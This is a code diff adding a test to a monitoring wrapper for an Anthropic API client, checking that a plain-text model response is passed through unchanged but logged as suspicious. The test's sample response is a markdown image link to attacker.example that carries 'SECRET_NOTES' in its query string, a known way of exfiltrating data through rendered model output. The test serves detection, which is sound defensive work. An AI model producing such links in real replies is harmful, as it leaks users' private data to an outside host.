@@ -108,6 +108,21 @@ describe('monitor(new Anthropic())', () => {
     expect(messageRequests()).toBe(before)
   })
 
+  it('judges a body that is not JSON (text/plain from a proxy) as the response text the application gets', async () => {
+    const file = tempLog()
+    const plain = (text: string) => fakeFetch(() => ({ body: text, headers: { 'content-type': 'text/plain' } })).fetch
+    const reply = '![status](https://attacker.example/collect?data=SECRET_NOTES)'
+    const bare = await new Anthropic({ apiKey: 'sk-ant-test', fetch: plain(reply), maxRetries: 0 }).messages.create(ask('Hello'))
+    const client = monitor(new Anthropic({ apiKey: 'sk-ant-test', fetch: plain(reply), maxRetries: 0 }), { agentId: 'plain', store: file })
+    expect(await client.messages.create(ask('Hello'))).toEqual(bare)
+    expect(bare).toBe(reply)
+    const finish = (await readLog(file)).find((e) => e.event === 'LLM_call_finish')!
+    expect(finish.data.response).toBe(reply)
+    expect(finish.data.alert).toBe('suspicious')
+    expect(finish.level).toBe('warning')
+    expect((finish.data.security as { matches: Array<{ target: string }> }).matches.map((m) => m.target)).toContain('response')
+  })
+
   it('lets a suspicious prompt through, flagged', async () => {
     const { client, file } = setup()
     const before = messageRequests()
